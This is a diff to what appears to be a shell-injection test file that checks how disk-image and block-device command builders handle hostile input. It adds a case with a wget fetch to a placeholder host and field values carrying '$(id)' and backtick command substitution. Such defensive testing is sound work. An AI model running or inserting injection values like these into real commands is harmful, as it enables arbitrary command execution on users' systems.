@@ -19,6 +19,8 @@ import { apkInstalled } from "../../facts/packages/apk-installed.js";
 import { aptCacheAge } from "../../facts/packages/apt-cache-age.js";
 import { fsSignature } from "../../facts/block/fs-signature.js";
 import { attachCommand } from "../../operations/disk/loop.js";
+import { writeCommand } from "../../operations/image/write.js";
+import { headSha256 } from "../../facts/block/head-sha256.js";
 import { missingApplets } from "../../facts/busybox/missing-applets.js";
 
 const SHELLS = [["dash"], ["/bin/busybox", "sh"]].filter(([bin]) => bin === "dash" || existsSync(bin!));
@@ -47,6 +49,8 @@ const commands: Record<string, string> = {
   applets: missingApplets(hostile).command,
   fsSignature: fsSignature(hostile).command,
   loopAttach: attachCommand(hostile, 512, 1024, true, true),
+  imageWrite: writeCommand({ device: hostile, fetch: "wget -q -O - 'http://x/$(id)'", gzip: true, size: 4096, sha: "0".repeat(64), staging: hostile, sourceSha: "1".repeat(64), label: "`id` $(id) 'q'" }),
+  headSha: headSha256(hostile, 4096).command,
   loopAttachBusybox: attachCommand(hostile, 512, 0, false, false),
 };
 
